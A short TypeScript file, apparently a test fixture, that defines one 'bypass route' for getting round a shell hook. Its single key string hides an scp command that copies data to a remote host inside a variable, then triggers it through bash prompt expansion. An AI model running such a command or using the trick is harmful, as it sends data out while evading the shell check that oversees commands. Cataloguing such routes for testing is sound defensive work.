import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a prompt expansion',
  source: 'attempts to get round a hook of the shell',
  keys: ["x='$(scp DATA host:)'; : ${x@P}\r"],
};
